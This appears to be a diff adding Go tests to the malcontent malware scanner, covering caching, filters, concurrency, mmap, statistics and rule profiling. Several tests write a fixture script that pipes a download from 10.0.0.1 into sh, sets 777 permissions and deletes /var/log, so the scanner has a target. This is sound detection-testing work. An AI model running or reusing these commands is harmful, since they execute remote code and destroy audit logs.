@@ -1,10 +1,37 @@
 package action
 
 import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"encoding/hex"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io/fs"
+	"log/slog"
+	"maps"
 	"os"
 	"path/filepath"
+	"reflect"
+	"runtime"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
+	"testing/fstest"
+	"time"
+
+	"github.com/chainguard-dev/clog"
+	"github.com/chainguard-dev/malcontent/pkg/compile"
+	"github.com/chainguard-dev/malcontent/pkg/malcontent"
+	"github.com/chainguard-dev/malcontent/pkg/render"
+	"github.com/chainguard-dev/malcontent/pkg/report"
+	"github.com/chainguard-dev/malcontent/rules"
+	thirdparty "github.com/chainguard-dev/malcontent/third_party"
+	"golang.org/x/text/encoding/unicode"
+
+	yarax "github.com/VirusTotal/yara-x/go"
 )
 
 func TestCleanPath(t *testing.T) {
@@ -125,3 +152,2509 @@ func TestFormatPath(t *testing.T) {
 		})
 	}
 }
+
+func TestExitCode(t *testing.T) {
+	newReport := func(risks ...int) *malcontent.Report {
+		r := &malcontent.Report{}
+		for i, risk := range risks {
+			path := filepath.Join("testdata", strings.Repeat("x", i+1))
+			r.Files.Store(path, &malcontent.FileReport{
+				Path:      path,
+				RiskScore: risk,
+				Behaviors: []*malcontent.Behavior{{ID: "test/behavior", RiskScore: risk}},
+			})
+		}
+		return r
+	}
+	mapping := map[malcontent.RiskLevel]int{malcontent.RiskHigh: 1, malcontent.RiskCritical: 3}
+
+	tests := []struct {
+		name  string
+		c     malcontent.Config
+		risks []int
+		want  int
+	}{
+		{"clean", malcontent.Config{MinFileRisk: 1}, nil, 0},
+		{"default, below min file risk", malcontent.Config{MinFileRisk: 3}, []int{1, 2}, 0},
+		{"default, reaches min file risk", malcontent.Config{MinFileRisk: 3}, []int{1, 3}, 1},
+		{"mapped, medium only", malcontent.Config{ExitCodeOnRisk: mapping}, []int{1, 2}, 0},
+		{"mapped, high", malcontent.Config{ExitCodeOnRisk: mapping}, []int{2, 3}, 1},
+		{"mapped, critical", malcontent.Config{ExitCodeOnRisk: mapping}, []int{3, 4, 1}, 3},
+		{"mapped, critical falls back to high", malcontent.Config{ExitCodeOnRisk: map[malcontent.RiskLevel]int{malcontent.RiskHigh: 2}}, []int{4}, 2},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			if got := ExitCode(tt.c, newReport(tt.risks...)); got != tt.want {
+				t.Errorf("ExitCode() = %d, want %d", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestIgnoreFile(t *testing.T) {
+	t.Parallel()
+	root := t.TempDir()
+
+	files := map[string]string{
+		".malcontentignore":               "# fixtures\n*.log\nvendor/\n/build\n!keep.log\n",
+		"main.sh":                         "",
+		"debug.log":                       "",
+		"keep.log":                        "",
+		"build/out.sh":                    "",
+		"src/build/out.sh":                "",
+		"vendor/lib.sh":                   "",
+		"src/vendor/lib.sh":               "",
+		"src/a.sh":                        "",
+		"src/.malcontentignore":           "a.sh\n!debug.log\n",
+		"src/debug.log":                   "",
+		"testdata/deep/nested/fixture.sh": "",
+		"testdata/.malcontentignore":      "**/nested/**\n",
+	}
+	for name, content := range files {
+		p := filepath.Join(root, filepath.FromSlash(name))
+		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	custom := filepath.Join(t.TempDir(), "custom-ignore")
+	if err := os.WriteFile(custom, []byte("*.sh\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name string
+		c    malcontent.Config
+		want []string
+	}{
+		{
+			name: "nested ignore files",
+			want: []string{".malcontentignore", "keep.log", "main.sh", "src/.malcontentignore", "src/build/out.sh", "src/debug.log", "testdata/.malcontentignore"},
+		},
+		{
+			name: "custom ignore file",
+			c:    malcontent.Config{IgnoreFile: custom},
+			want: []string{".malcontentignore", "debug.log", "keep.log", "src/.malcontentignore", "src/debug.log", "testdata/.malcontentignore"},
+		},
+		{
+			name: "disabled",
+			c:    malcontent.Config{NoIgnore: true},
+			want: slices.Sorted(maps.Keys(files)),
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			paths, err := findFilesRecursively(context.Background(), root, newIgnoreMatcher(tt.c))
+			if err != nil {
+				t.Fatalf("findFilesRecursively: %v", err)
+			}
+
+			var got []string
+			for _, p := range paths {
+				rel, err := filepath.Rel(root, p)
+				if err != nil {
+					t.Fatal(err)
+				}
+				got = append(got, filepath.ToSlash(rel))
+			}
+			slices.Sort(got)
+
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("got %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestScanCache(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	// The cache is keyed by content, so give each file its own
+	for _, name := range []string{"modified.sh", "unmodified.sh"} {
+		if err := os.WriteFile(filepath.Join(root, name), []byte(script+"# "+name+"\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	cacheDir := t.TempDir()
+	c := malcontent.Config{
+		CacheDir:    cacheDir,
+		Concurrency: 1,
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	}
+
+	// markCached tags every report in the cache, so that reports served from it can be told apart
+	markCached := func() {
+		t.Helper()
+		err := filepath.WalkDir(cacheDir, func(p string, d fs.DirEntry, err error) error {
+			if err != nil || d.IsDir() {
+				return err
+			}
+			data, err := os.ReadFile(p)
+			if err != nil {
+				return err
+			}
+			var fr malcontent.FileReport
+			if err := json.Unmarshal(data, &fr); err != nil {
+				return err
+			}
+			if fr.Meta == nil {
+				fr.Meta = map[string]string{}
+			}
+			fr.Meta["test_cached"] = "true"
+			data, err = json.Marshal(fr)
+			if err != nil {
+				return err
+			}
+			return os.WriteFile(p, data, 0o600)
+		})
+		if err != nil {
+			t.Fatalf("mark cache entries: %v", err)
+		}
+	}
+
+	scan := func(c malcontent.Config) (map[string]bool, map[string]malcontent.RiskLevel) {
+		t.Helper()
+		r, err := Scan(ctx, c)
+		if err != nil {
+			t.Fatalf("scan: %v", err)
+		}
+
+		cached := map[string]bool{}
+		levels := map[string]malcontent.RiskLevel{}
+		r.Files.Range(func(_, value any) bool {
+			if fr, ok := value.(*malcontent.FileReport); ok {
+				cached[filepath.Base(fr.Path)] = fr.Meta["test_cached"] == "true"
+				levels[filepath.Base(fr.Path)] = fr.RiskLevel
+			}
+			return true
+		})
+		return cached, levels
+	}
+
+	first, want := scan(c)
+	if len(first) != 2 || first["modified.sh"] || first["unmodified.sh"] {
+		t.Fatalf("first scan served %v from cache, want both files scanned", first)
+	}
+	markCached()
+
+	if err := os.WriteFile(filepath.Join(root, "modified.sh"), []byte(script+"# changed\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	second, got := scan(c)
+	if second["modified.sh"] || !second["unmodified.sh"] {
+		t.Errorf("second scan served %v from cache, want only unmodified.sh", second)
+	}
+	if !maps.Equal(got, want) {
+		t.Errorf("cached risk levels = %v, want %v", got, want)
+	}
+
+	c.NoCache = true
+	if third, _ := scan(c); third["unmodified.sh"] {
+		t.Errorf("scan with NoCache served %v from cache, want unmodified.sh rescanned", third)
+	}
+
+	// OnMatch must see every match, so it disables the cache
+	c.NoCache = false
+	c.OnMatch = func(string, string, []string) {}
+	if fourth, _ := scan(c); fourth["unmodified.sh"] {
+		t.Errorf("scan with OnMatch served %v from cache, want unmodified.sh rescanned", fourth)
+	}
+	c.OnMatch = nil
+
+	// A different ruleset must not share cache entries
+	other, err := compile.Recursive(ctx, []fs.FS{fstest.MapFS{
+		"test/other.yara": {Data: []byte("rule other { strings: $a = \"curl\" condition: $a }")},
+	}})
+	if err != nil {
+		t.Fatalf("compile: %v", err)
+	}
+	fc := []byte(script)
+	if a, b := newScanCache(ctx, c, yrs, nil).entry(fc, nil), newScanCache(ctx, c, other, nil).entry(fc, nil); a == b {
+		t.Errorf("cache entry %s is shared between rulesets", a)
+	}
+}
+
+func TestScanStdin(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\n"
+	data := "plain text notes, nothing to run here\n"
+
+	tests := []struct {
+		name        string
+		input       string
+		includeData bool
+		wantSkipped string
+		wantRisk    bool
+	}{
+		{"program", script, false, "", true},
+		{"data file", data, false, "data file or empty", false},
+		{"data file included", data, true, "", false},
+		{"empty", "", false, "zero-sized file", false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			r, err := Scan(ctx, malcontent.Config{
+				Concurrency:      1,
+				IncludeDataFiles: tt.includeData,
+				Rules:            yrs,
+				ScanPaths:        []string{"-"},
+				Stdin:            strings.NewReader(tt.input),
+			})
+			if err != nil {
+				t.Fatalf("scan: %v", err)
+			}
+
+			v, ok := r.Files.Load("<stdin>")
+			if !ok {
+				t.Fatal("no report for <stdin>")
+			}
+			fr, ok := v.(*malcontent.FileReport)
+			if !ok {
+				t.Fatalf("unexpected report type %T", v)
+			}
+			if fr.Path != "<stdin>" {
+				t.Errorf("Path = %q, want <stdin>", fr.Path)
+			}
+			if fr.Skipped != tt.wantSkipped {
+				t.Errorf("Skipped = %q, want %q", fr.Skipped, tt.wantSkipped)
+			}
+			if tt.wantRisk && fr.RiskScore == 0 {
+				t.Error("RiskScore = 0, want findings")
+			}
+		})
+	}
+}
+
+func TestFileTypeFilters(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	files := map[string][]byte{
+		"run.sh":     []byte("#!/bin/sh\nexit 0\n"),
+		"tool":       append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...),
+		"image.PNG":  append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 64)...),
+		"lib.py":     []byte("import os\nprint(os.getcwd())\n"),
+		"notes.txt":  []byte("nothing to see here\n"),
+		"setup.exe":  append([]byte("MZ\x90\x00"), make([]byte, 64)...),
+		"tools.tar~": []byte("backup"),
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(root, name), content, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	tests := []struct {
+		name string
+		c    malcontent.Config
+		want []string
+	}{
+		{
+			name: "no filters",
+			c:    malcontent.Config{IncludeDataFiles: true},
+			want: slices.Sorted(maps.Keys(files)),
+		},
+		{
+			name: "include extensions",
+			c:    malcontent.Config{IncludeDataFiles: true, IncludeExtensions: []string{".sh", "py"}},
+			want: []string{"lib.py", "run.sh"},
+		},
+		{
+			// Data files that pass the extension filters are still reported as skipped
+			name: "include extensions without data files",
+			c:    malcontent.Config{IncludeExtensions: []string{".txt", ".sh"}},
+			want: []string{"notes.txt", "run.sh"},
+		},
+		{
+			name: "exclude extensions",
+			c:    malcontent.Config{IncludeDataFiles: true, ExcludeExtensions: []string{".png", "TXT", ".tar~"}},
+			want: []string{"lib.py", "run.sh", "setup.exe", "tool"},
+		},
+		{
+			name: "exclusions win over inclusions",
+			c:    malcontent.Config{IncludeDataFiles: true, IncludeExtensions: []string{".sh", ".py"}, ExcludeExtensions: []string{".py"}},
+			want: []string{"run.sh"},
+		},
+		{
+			// Executable magic is required even when data files are included
+			name: "only executables",
+			c:    malcontent.Config{IncludeDataFiles: true, OnlyExecutables: true},
+			want: []string{"run.sh", "setup.exe", "tool"},
+		},
+		{
+			name: "only executables with extensions",
+			c:    malcontent.Config{OnlyExecutables: true, ExcludeExtensions: []string{".exe"}},
+			want: []string{"run.sh", "tool"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			c := tt.c
+			c.Concurrency = 2
+			c.Rules = yrs
+			c.ScanPaths = []string{root}
+
+			res, err := Scan(ctx, c)
+			if err != nil {
+				t.Fatalf("scan: %v", err)
+			}
+
+			var got []string
+			res.Files.Range(func(key, _ any) bool {
+				if p, ok := key.(string); ok {
+					got = append(got, filepath.Base(p))
+				}
+				return true
+			})
+			slices.Sort(got)
+
+			if !slices.Equal(got, tt.want) {
+				t.Errorf("reported %v, want %v", got, tt.want)
+			}
+		})
+	}
+
+	// The filters also apply to content that is not read from disk
+	c := malcontent.Config{Rules: yrs, OnlyExecutables: true}
+	fr, err := scanBytes(ctx, c, "notes.txt", files["notes.txt"])
+	if err != nil || fr != nil {
+		t.Errorf("scanBytes(notes.txt) = %+v, %v; want no report", fr, err)
+	}
+}
+
+// writeManyFiles writes n small scripts spread across nested directories below root.
+func writeManyFiles(tb testing.TB, root string, n int) {
+	tb.Helper()
+	for i := range n {
+		dir := filepath.Join(root, fmt.Sprintf("d%02d", i%32), fmt.Sprintf("e%d", i%7))
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			tb.Fatal(err)
+		}
+		script := fmt.Sprintf("#!/bin/sh\necho %d\n", i)
+		if i%10 == 0 {
+			script += "curl -sSL http://10.0.0.1/payload | sh\n"
+		}
+		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%d.sh", i)), []byte(script), 0o600); err != nil {
+			tb.Fatal(err)
+		}
+	}
+}
+
+func TestScanConcurrency(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	const n = 500
+	writeManyFiles(t, root, n)
+
+	// Every file is reported once regardless of how many workers consume the walk
+	var want []string
+	for _, concurrency := range []int{1, 4, 32} {
+		c := malcontent.Config{
+			Concurrency: concurrency,
+			Rules:       yrs,
+			ScanPaths:   []string{root},
+		}
+		res, err := Scan(ctx, c)
+		if err != nil {
+			t.Fatalf("scan with concurrency %d: %v", concurrency, err)
+		}
+
+		var got []string
+		res.Files.Range(func(key, value any) bool {
+			if fr, ok := value.(*malcontent.FileReport); ok {
+				got = append(got, fmt.Sprintf("%s=%d", key, fr.RiskScore))
+			}
+			return true
+		})
+		slices.Sort(got)
+
+		if len(got) != n {
+			t.Errorf("concurrency %d reported %d files, want %d", concurrency, len(got), n)
+		}
+		if want == nil {
+			want = got
+			continue
+		}
+		if !slices.Equal(got, want) {
+			t.Errorf("concurrency %d reported different results than concurrency 1", concurrency)
+		}
+	}
+}
+
+func BenchmarkScanManyFiles(b *testing.B) {
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		b.Fatalf("rules: %v", err)
+	}
+
+	root := b.TempDir()
+	writeManyFiles(b, root, 5000)
+
+	c := malcontent.Config{
+		Concurrency: runtime.NumCPU(),
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	}
+	for b.Loop() {
+		if _, err := Scan(ctx, c); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func TestWalkFilesLargestFirst(t *testing.T) {
+	t.Parallel()
+
+	root := t.TempDir()
+	sizes := map[string]int{"a": 10, "b": 1000, "c": 0, "d": 1000, "e": 100}
+	for name, size := range sizes {
+		if err := os.WriteFile(filepath.Join(root, name), make([]byte, size), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	var got []string
+	err := walkFilesLargestFirst(context.Background(), root, nil, false, func(path string) error {
+		got = append(got, filepath.Base(path))
+		return nil
+	})
+	if err != nil {
+		t.Fatalf("walk: %v", err)
+	}
+	want := []string{"b", "d", "e", "a", "c"}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("walk order = %v, want %v", got, want)
+	}
+}
+
+// BenchmarkScanLargestFirst scans many small files and one large file that is walked last,
+// which leaves the other workers idle while it is scanned unless files are dispatched largest first.
+func BenchmarkScanLargestFirst(b *testing.B) {
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		b.Fatalf("rules: %v", err)
+	}
+
+	root := b.TempDir()
+	writeManyFiles(b, root, 2000)
+	large := bytes.Repeat([]byte("#!/bin/sh\necho large\n"), 4<<20/22)
+	if err := os.MkdirAll(filepath.Join(root, "zz"), 0o755); err != nil {
+		b.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, "zz", "large.sh"), large, 0o600); err != nil {
+		b.Fatal(err)
+	}
+
+	for _, largestFirst := range []bool{false, true} {
+		b.Run(fmt.Sprintf("largest-first=%v", largestFirst), func(b *testing.B) {
+			c := malcontent.Config{
+				Concurrency:  4,
+				LargestFirst: largestFirst,
+				NoCache:      true,
+				Rules:        yrs,
+				ScanPaths:    []string{root},
+			}
+			for b.Loop() {
+				if _, err := Scan(ctx, c); err != nil {
+					b.Fatal(err)
+				}
+			}
+		})
+	}
+}
+
+func TestScanMmap(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	files := map[string][]byte{
+		"payload.sh": []byte(script),
+		// Matches spread over a larger file exercise offsets beyond the first page of the mapping
+		"large.sh": append(append([]byte(script), make([]byte, 1<<20)...), script...),
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(root, name), content, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	scan := func(mmap bool) map[string]*malcontent.FileReport {
+		t.Helper()
+		res, err := Scan(ctx, malcontent.Config{
+			Concurrency: 2,
+			Mmap:        mmap,
+			NoCache:     true,
+			Rules:       yrs,
+			ScanPaths:   []string{root},
+		})
+		if err != nil {
+			t.Fatalf("scan (mmap=%v): %v", mmap, err)
+		}
+		got := map[string]*malcontent.FileReport{}
+		res.Files.Range(func(key, value any) bool {
+			if fr, ok := value.(*malcontent.FileReport); ok {
+				got[filepath.Base(key.(string))] = fr
+			}
+			return true
+		})
+		return got
+	}
+
+	want := scan(false)
+	if len(want["payload.sh"].Behaviors) == 0 {
+		t.Fatal("payload.sh has no behaviors to compare")
+	}
+	got := scan(true)
+	if len(got) != len(files) {
+		t.Fatalf("mmap scan reported %d files, want %d", len(got), len(files))
+	}
+	for name, fr := range got {
+		w, ok := want[name]
+		if !ok {
+			t.Errorf("%s was only reported when using mmap", name)
+			continue
+		}
+		if fr.RiskScore != w.RiskScore || fr.SHA256 != w.SHA256 || !reflect.DeepEqual(fr.Behaviors, w.Behaviors) {
+			t.Errorf("%s: mmap report = %+v, want %+v", name, fr, w)
+		}
+	}
+}
+
+func TestScanStats(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	files := map[string][]byte{
+		"payload.sh": []byte(script),
+		"empty.sh":   {},
+	}
+	for name, content := range files {
+		if err := os.WriteFile(filepath.Join(root, name), content, 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	res, err := Scan(ctx, malcontent.Config{
+		Concurrency: 1,
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	})
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	st := res.Stats
+	if st == nil {
+		t.Fatal("scan returned no stats")
+	}
+
+	v, ok := res.Files.Load(filepath.Join(root, "payload.sh"))
+	if !ok {
+		t.Fatal("payload.sh was not reported")
+	}
+	fr, ok := v.(*malcontent.FileReport)
+	if !ok || len(fr.Behaviors) == 0 {
+		t.Fatalf("payload.sh has no behaviors: %+v", v)
+	}
+
+	behaviors := 0
+	for _, n := range st.BehaviorsByRisk {
+		behaviors += n
+	}
+	if st.FilesScanned-st.FilesSkipped != 1 || st.Bytes != int64(len(script)) || st.FilesByRisk[fr.RiskLevel] != 1 {
+		t.Errorf("stats = %+v, want payload.sh counted as the only scanned file", st)
+	}
+	if st.TotalBehaviors != len(fr.Behaviors) || behaviors != st.TotalBehaviors || st.RulesMatched == 0 || st.Duration <= 0 {
+		t.Errorf("stats = %+v, want %d behaviors from payload.sh", st, len(fr.Behaviors))
+	}
+}
+
+func TestScanRulesProfile(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	for _, name := range []string{"a.sh", "b.sh"} {
+		if err := os.WriteFile(filepath.Join(root, name), []byte(script+"# "+name+"\n"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	c := malcontent.Config{
+		CacheDir:    t.TempDir(),
+		Concurrency: 2,
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	}
+	res, err := Scan(ctx, c)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	if len(res.Stats.RulesProfile) != 0 {
+		t.Errorf("rules were profiled without ProfileRules: %+v", res.Stats.RulesProfile)
+	}
+
+	// The earlier scan populated the cache, which profiling bypasses
+	c.ProfileRules = true
+	res, err = Scan(ctx, c)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	rps := res.Stats.RulesProfile
+	if len(rps) == 0 {
+		t.Fatal("no rules were profiled")
+	}
+	for i, rp := range rps {
+		if rp.ID == "" || rp.Rule == "" {
+			t.Errorf("profile entry %d is missing its rule: %+v", i, rp)
+		}
+		if rp.FilesMatched > 2 {
+			t.Errorf("%s matched %d files, want at most 2", rp.Rule, rp.FilesMatched)
+		}
+		if i > 0 && rps[i-1].Time < rp.Time {
+			t.Errorf("profile is not ordered slowest first: %s (%s) before %s (%s)", rps[i-1].Rule, rps[i-1].Time, rp.Rule, rp.Time)
+		}
+	}
+	if rps[0].FilesMatched == 0 && rps[0].Time == 0 {
+		t.Errorf("slowest rule %s has neither timings nor matches", rps[0].Rule)
+	}
+}
+
+func TestScanUnusedRules(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	script := "#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\nrm -rf /var/log/*\n"
+	if err := os.WriteFile(filepath.Join(root, "payload.sh"), []byte(script), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	c := malcontent.Config{
+		CacheDir:    t.TempDir(),
+		Concurrency: 1,
+		Rules:       yrs,
+		ScanPaths:   []string{root},
+	}
+	res, err := Scan(ctx, c)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+	if len(res.Stats.UnusedRules) != 0 {
+		t.Errorf("unused rules were reported without ReportUnusedRules: %d", len(res.Stats.UnusedRules))
+	}
+
+	// The earlier scan populated the cache, which would hide the matches of payload.sh
+	c.ReportUnusedRules = true
+	res, err = Scan(ctx, c)
+	if err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	matched := map[string]bool{}
+	res.EachBehavior(func(_ string, _ *malcontent.FileReport, b *malcontent.Behavior) bool {
+		matched[b.RuleName] = true
+		return true
+	})
+	if len(matched) == 0 {
+		t.Fatal("payload.sh matched no rules")
+	}
+
+	urs := res.Stats.UnusedRules
+	if len(urs) == 0 || len(urs) >= len(yrs.Slice()) {
+		t.Fatalf("got %d unused rules of %d, want some but not all", len(urs), len(yrs.Slice()))
+	}
+	for i, ur := range urs {
+		if ur.ID == "" || ur.Rule == "" {
+			t.Errorf("unused rule %d is missing its name: %+v", i, ur)
+		}
+		if matched[ur.Rule] {
+			t.Errorf("%s matched payload.sh but was reported as unused", ur.Rule)
+		}
+		if i > 0 && urs[i-1].ID > ur.ID {
+			t.Errorf("unused rules are not sorted by ID: %s before %s", urs[i-1].ID, ur.ID)
+		}
+	}
+}
+
+func TestRulesetInfo(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	compiled := func(rfs fs.FS) malcontent.RulesetSummary {
+		yrs, err := compile.Recursive(ctx, []fs.FS{rfs})
+		if err != nil {
+			t.Fatalf("compile: %v", err)
+		}
+		return RulesetInfo(yrs)
+	}
+
+	got := compiled(literalRules)
+	want := malcontent.RulesetSummary{Hash: got.Hash, Namespaces: []string{"test/fetch.yara"}, Rules: 2}
+	if got.Hash == "" || !reflect.DeepEqual(got, want) {
+		t.Errorf("RulesetInfo() = %+v, want %+v", got, want)
+	}
+
+	// Compiling the same sources again must give the same hash, so it can key caches
+	if again := compiled(literalRules); again.Hash != got.Hash {
+		t.Errorf("recompiled hash = %s, want %s", again.Hash, got.Hash)
+	}
+	other := compiled(fstest.MapFS{
+		"test/other.yara": {Data: []byte("rule other { strings: $a = \"curl\" condition: $a }")},
+	})
+	if other.Hash == got.Hash {
+		t.Errorf("different rules share hash %s", got.Hash)
+	}
+}
+
+func TestScanProgress(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	root := t.TempDir()
+	for _, name := range []string{"a.sh", "b.sh"} {
+		if err := os.WriteFile(filepath.Join(root, name), []byte("#!/bin/sh\necho "+name+"\n"), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// The archive counts as one file until it is expanded into its two members
+	archive, err := os.ReadFile("testdata/apko.tar.gz")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(root, "apko.tar.gz"), archive, 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	type update struct {
+		done, total int
+		path        string
+	}
+	var updates []update
+	c := malcontent.Config{
+		Concurrency: 2,
+		Progress: func(done, total int, currentPath string) {
+			updates = append(updates, update{done, total, currentPath})
+		},
+		Rules:     yrs,
+		ScanPaths: []string{root},
+	}
+	if _, err := Scan(ctx, c); err != nil {
+		t.Fatalf("scan: %v", err)
+	}
+
+	if len(updates) != 5 {
+		t.Fatalf("got %d progress updates, want 5: %+v", len(updates), updates)
+	}
+	paths := make([]string, 0, len(updates))
+	for i, u := range updates {
+		if u.done != i+1 || u.total < 3 || u.total > 5 {
+			t.Errorf("update %d = %+v, want done=%d of 3 to 5 files", i, u, i+1)
+		}
+		paths = append(paths, filepath.Base(u.path))
+	}
+	if last := updates[len(updates)-1]; last.done != last.total {
+		t.Errorf("last update = %+v, want done to reach the total", last)
+	}
+	slices.Sort(paths)
+	if want := []string{"LICENSE", "a.sh", "apko", "apko.tar.gz", "b.sh"}; !slices.Equal(paths, want) {
+		t.Errorf("progress paths = %v, want %v", paths, want)
+	}
+}
+
+func TestScanHashAlgo(t *testing.T) {
+	t.Parallel()
+	ctx := context.Background()
+
+	yrs, err := CachedRules(ctx, []fs.FS{rules.FS, thirdparty.FS})
+	if err != nil {
+		t.Fatalf("rules: %v", err)
+	}
+
+	p := filepath.Join(t.TempDir(), "payload.sh")
+	if err := os.WriteFile(p, []byte("#!/bin/sh\ncurl -sSL http://10.0.0.1/payload | sh\nchmod 777 /tmp/payload\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+
+	scan := func(algo string) *malcontent.FileReport {
+		t.Helper()
+		res, err := Scan(ctx, malcontent.Config{Concurrency: 1, HashAlgo: algo, Rules: yrs, ScanPaths: []string{p}})
+		if err != nil {
+			t.Fatalf("scan with %q: %v", algo, err)
+		}
+		v, ok := res.Files.Load(p)
+		if !ok {
+			t.Fatalf("scan with %q did not report %s", algo, p)
+		}
+		fr, ok := v.(*malcontent.FileReport)
+		if !ok || len(fr.Behaviors) == 0 {
+			t.Fatalf("scan with %q reported no behaviors: %+v", algo, v)
+		}
+		return fr
+	}
+
+	for _, algo := range []string{"", "sha256"} {
+		if fr := scan(algo); len(fr.SHA256) != 64 || fr.Hash != "" || fr.HashAlgo != "" {
+			t.Errorf("HashAlgo %q: SHA256=%q Hash=%q HashAlgo=%q, want only a SHA256", algo, fr.SHA256, fr.Hash, fr.HashAlgo)
+		}
+	}
+
+	fr := scan("xxh3")
+	if fr.SHA256 != "" || len(fr.Hash) != 16 || fr.HashAlgo != "xxh3" {
+		t.Errorf("HashAlgo xxh3: SHA256=%q Hash=%q HashAlgo=%q, want a 64-bit xxh3 hash", fr.SHA256, fr.Hash, fr.HashAlgo)
+	}
+	if got, want := fr.Checksum(), "xxh3:"+fr.Hash; got != want {
+		t.Errorf("Checksum() = %q, want %q", got, want)
+	}
+
+	if _, err := Scan(ctx, malcontent.Config{HashAlgo: "md5", Rules: yrs, ScanPaths: []string{p}}); err == nil {
